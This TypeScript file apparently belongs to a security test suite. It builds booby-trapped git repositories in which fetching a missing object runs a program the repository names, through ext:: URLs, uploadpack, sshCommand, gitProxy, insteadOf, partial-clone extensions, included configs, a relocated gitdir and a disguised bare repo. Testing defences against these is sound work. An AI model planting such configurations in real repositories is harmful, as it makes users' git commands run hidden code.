import { mkdirSync, readFileSync, renameSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import type { Place } from '../surroundings/place.ts';
import type { Attack } from './attack.ts';

const missing = '1'.repeat(40);

/** Takes the commit before the last away, and names one that never was: whoever asks for either makes git fetch it. */
export function breakHistory(place: Place): void {
  const before = place.git('rev-parse', 'HEAD~1');
  place.remove(`.git/objects/${before.slice(0, 2)}/${before.slice(2)}`);
  place.write('.git/refs/remotes/origin/later', `${missing}\n`);
}

/** A remote that promises to hand in what is missing, by a program. */
const promisor = (url: string) => `[remote "origin"]\n\turl = ${url}\n\tpromisor = true\n`;
const allow = (protocol: string) => `[protocol "${protocol}"]\n\tallow = always\n`;

const fetchMissing = (place: Place) => place.git('cat-file', '-e', missing);

/** A repository whose configuration makes git fetch by a program that it names. */
function remote(name: string, attempt: string, configure: (place: Place, trap: string) => void): Attack {
  return {
    name,
    attempt,
    build: (place) => {
      breakHistory(place);
      configure(place, place.trap('tools/fetch'));
    },
    fire: fetchMissing,
  };
}

const config = (place: Place, text: string) => place.append('.git/config', text);

/** Missing objects are fetched when they are asked for, by whatever program the remote names. */
export const remotes: readonly Attack[] = [
  remote('git-ext', 'Fetches what is missing by the program of an ext:: address.', (place, trap) =>
    config(place, promisor(`ext::${trap} %S`) + allow('ext')),
  ),
  remote('git-file', 'Fetches what is missing from a folder, by an uploadpack of its own.', (place, trap) =>
    config(place, `${promisor(`file://${place.sibling}`)}\tuploadpack = ${trap}\n${allow('file')}`),
  ),
  remote('git-ssh', 'Fetches what is missing over ssh, by the ssh command it names.', (place, trap) =>
    config(place, `${promisor('ssh://example.org/parcels')}${allow('ssh')}[core]\n\tsshCommand = ${trap}\n`),
  ),
  remote('git-proxy', 'Fetches what is missing over git://, through the proxy program it names.', (place, trap) =>
    config(place, `${promisor('git://example.org/parcels')}${allow('git')}[core]\n\tgitProxy = ${trap}\n`),
  ),
  remote('git-instead', 'Turns an honest address into a program by url.insteadOf.', (place, trap) =>
    config(
      place,
      `${promisor('https://example.org/parcels')}${allow('ext')}[url "ext::${trap} "]\n\tinsteadOf = https://example.org/\n`,
    ),
  ),
  remote('git-partial-clone', 'Says by an extension, not by the remote, that it is a partial clone.', (place, trap) => {
    const text = place.read('.git/config').replace('repositoryformatversion = 0', 'repositoryformatversion = 1');
    const origin = `[remote "origin"]\n\turl = ext::${trap} %S\n[extensions]\n\tpartialClone = origin\n`;
    place.write('.git/config', text + origin + allow('ext'));
  }),
  remote('git-allow-all', 'Allows every protocol at once, before the one that is forbidden.', (place, trap) =>
    config(place, `${promisor(`ext::${trap} %S`)}[protocol]\n\tallow = always\n`),
  ),
  remote('git-include', 'Hides its configuration in a file of the repository that is included.', (place, trap) => {
    place.write('tools/settings', promisor(`ext::${trap} %S`) + allow('ext'));
    config(place, '[include]\n\tpath = ../tools/settings\n');
  }),
  remote('git-worktree-config', 'Keeps its configuration in the one of the working tree.', (place, trap) => {
    config(place, '[extensions]\n\tworktreeConfig = true\n');
    place.write('.git/config.worktree', promisor(`ext::${trap} %S`) + allow('ext'));
  }),
  remote('git-elsewhere', 'Is a .git file that leads to a folder among the documents.', (place, trap) => {
    mkdirSync(dirname(place.path('docs/vendor/parcels')), { recursive: true });
    renameSync(place.path('.git'), place.path('docs/vendor/parcels'));
    place.write('.git', 'gitdir: docs/vendor/parcels\n');
    place.append('docs/vendor/parcels/config', promisor(`ext::${trap} %S`) + allow('ext'));
  }),
  remote('git-bare', 'Is a bare repository itself, its configuration among its files.', (place, trap) => {
    const bare = place.path('.git');
    for (const name of ['HEAD', 'config', 'objects', 'refs', 'logs', 'index'])
      renameSync(join(bare, name), place.path(name));
    place.remove('.git');
    const text = readFileSync(place.path('config'), 'utf8').replace('bare = false', 'bare = true');
    writeFileSync(place.path('config'), text + promisor(`ext::${trap} %S`) + allow('ext'));
  }),
];
